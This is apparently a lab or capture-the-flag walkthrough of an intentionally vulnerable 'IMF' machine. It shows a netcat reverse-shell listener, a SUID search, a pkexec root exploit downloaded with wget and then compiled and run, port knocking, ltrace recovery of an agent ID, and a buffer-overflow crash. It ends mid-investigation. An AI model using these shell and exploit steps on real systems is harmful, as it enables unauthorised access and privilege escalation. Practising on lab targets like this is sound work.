Great, found the flag. I can probably attempt a reverse shell from here. The go-to list I use is http://pentestmonkey.net/cheat-sheet/shells/reverse-shell-cheat-sheet but to make it easier, I check if netcat is installed first.After many tries, I gave up on using nc from the victim box, and moved to php. It took me a while to get the syntax correct.

On attack box, use nc to listen on port 6000: nc -vvvlkp 6000

From attack box (, have victim box initiate the connection to the attack box.


And success!

root@kalisee:~# nc -vvvlkp 6000
listening on [any] 6000 ... inverse host lookup failed: Unknown host
connect to [] from (UNKNOWN) [] 56672
/bin/sh: 0: can't access tty; job control turned off

Next step: privilege escalation.


One technique I learned from another exercise is to look for any interesting executable files.


$ find / -perm -4000 -type f 2>/dev/null

I’m not familiar with all the software included on linux machines but /usr/bin/pkexec looks very interesting. A quick google search brings me to CVE-2011-1485: pkexec - Race Condition Privilege Escalation. I hope this isn’t a waste of time.

On the victim box:$ whoami
$ cd /tmp
$ wget https://www.exploit-db.com/download/17942
$ mv 17942 17942.c
$ gcc ./17942.c -o funfunfun
$ ./funfunfun
pkexec local root exploit by xi4oyu , thx to dm
$ whoami

Dead end. I should’ve checked the version first, the vitim machine is running pkexec v0.105. The vulnerable version is v0.101.

After much poking around, I decided to refer to another walkthrough. The previous flag was the clue I needed. I look for any file with the text “agent”: find / -type f -name "*agent*" -print 2>/dev/null. The interesting file in the output is /usr/local/bin/agent. Running the program gives us a reporting system for IMF:

  ___ __  __ ___
 |_ _|  \/  | __|  Agent
  | || |\/| | _|   Reporting
 |___|_|  |_|_|    SystemAgent ID : 1
Invalid Agent ID

If you run ls /usr/local/bin/ you find access_codes:

$ cat /usr/local/bin/access_codes
SYN 7482,8279,9467

I’m guessing these have something to do with SYN/ACK. More research brings me to port knocking. This was all new to me so I needed to do some research first. I used the bash loop from the other walkthrough: for x in 7482 8279 9467; do nmap -p $x; done. After doing a full nmap scan, I found that port 7788 is now open.

telnet 7788
Connected to
Escape character is '^]'.
  ___ __  __ ___
 |_ _|  \/  | __|  Agent
  | || |\/|| _|   Reporting
 |___|_|  |_|_|    System

Agent ID :

I was able to use ltrace to find the agent ID in the binary.

$ ltrace agent
__libc_start_main(0x80485fb, 1, 0xffeade54, 0x8048970 <unfinished ...>
setbuf(0xf7736d60, 0)                            = <void>
asprintf(0xffeadd88, 0x80489f0, 0x2ddd984, 0xf759e0ec) = 8
puts("  ___ __  __ ___ "  ___ __  __ ___
)                        = 18
puts(" |_ _|  \\/  | __|  Agent" |_ _|  \/  | __|  Agent
)                = 25
puts("  | || |\\/| | _|   Reporting"  | || |\/| | _|   Reporting
)            = 29
puts(" |___|_|  |_|_|    System\n" |___|_|  |_|_|    System

)              = 27
printf("\nAgent ID : "
Agent ID : )                          = 12
"12\n", 9, 0xf77365a0)                     = 0xffeadd8e
strncmp("12\n", "48093572", 8)                   = -1 #strncmp gives it awayputs("Invalid Agent ID "Invalid Agent ID
)                        = 18
+++ exited (status 254) +++

I logged in with the agent number and played around with the software. I found that I can cause a segfault by giving

$ agent
  ___ __  __ ___
 |_ _|  \/  | __|  Agent
  | || |\/| | _|   Reporting
 |___|_|  |_|_|    System

Agent ID : 48093572
Login Validated
Main Menu:
1. Extraction Points
2. Request Extraction
3. Submit Report
0. Exit
Enter selection: 3
Report:ggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggSubmitted for review.
Segmentation fault(core dumped)

BRB while I google“how to exploit segfault”